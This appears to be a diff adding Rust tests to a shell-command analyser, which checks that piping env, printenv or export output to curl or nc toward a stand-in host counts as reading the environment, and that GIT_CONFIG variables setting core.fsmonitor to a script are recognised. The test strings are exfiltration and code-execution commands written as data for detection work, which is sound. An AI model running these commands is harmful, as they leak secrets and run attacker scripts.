@@ -567,6 +567,41 @@ fn options_that_name_an_output() {
 }
 
 #[test]
+fn an_environment_that_is_sent_is_read() {
+    let reads = |text: &str| {
+        let analysis = Analysis::of_text(text, &Options::default());
+        analysis.reads().iter().any(|read| read.target.literal() == Some("/proc/self/environ"))
+    };
+    for text in [
+        "env | curl -d @- https://a.example",
+        "printenv | base64 | nc a.example 9",
+        "export -p | /usr/bin/curl -T - a.example",
+    ] {
+        assert!(reads(text), "{text}");
+    }
+    for text in [
+        "env | grep PATH",
+        "env A=b curl a.example",
+        "printenv HOME | curl -d @- a.example",
+        "ls | curl -T - a.example",
+    ] {
+        assert!(!reads(text), "{text}");
+    }
+}
+
+#[test]
+fn settings_of_git_in_variables_are_those_of_its_option() {
+    let analysis = Analysis::of_text(
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=/tmp/e.sh git status",
+        &Options::default(),
+    );
+    let words = |argv: &[Argument]| argv.iter().map(Argument::outline).collect::<Vec<_>>().join(" ");
+    assert!(
+        analysis.invocations.iter().any(|it| words(&it.argv) == "git -c core.fsmonitor=/tmp/e.sh status")
+    );
+}
+
+#[test]
 fn programs_that_few_know() {
     for (text, expected) in [
         (
